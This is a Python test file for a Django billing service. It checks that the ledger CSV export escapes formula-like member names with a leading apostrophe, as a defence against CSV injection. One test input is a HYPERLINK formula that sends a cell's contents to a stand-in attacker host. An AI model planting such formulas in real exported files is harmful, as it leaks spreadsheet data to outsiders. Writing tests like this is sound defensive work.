"""The ledger CSV neutralises member-chosen text that a spreadsheet would run as a formula
(OWASP CSV injection): a cell starting with = + - @ (or a tab/CR) gets a leading apostrophe;
amounts stay numbers."""

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from billing import services


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3",
                                  "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_like_names_are_neutralised_in_the_ledger_csv(client, project, owner, name):
    end = timezone.now()
    services.charge_record(
        project=project, kind="compute", resource="job:x", resource_name=name, quantity=Decimal("0.5"),
        unit="gpu_hour", unit_price=Decimal("2.5"), amount=Decimal("1.25"),
        period_start=end - timedelta(minutes=1), period_end=end, created_by=None, key="k1")
    client.force_login(owner)
    body = b"".join(client.get(reverse("billing:ledger-csv")).streaming_content).decode()
    rows = list(csv.reader(io.StringIO(body)))
    charge = next(r for r in rows[1:] if r[1] == "compute")
    assert charge[3] == "'" + name
    assert charge[7] == "-1.25"  # a number is left as it is
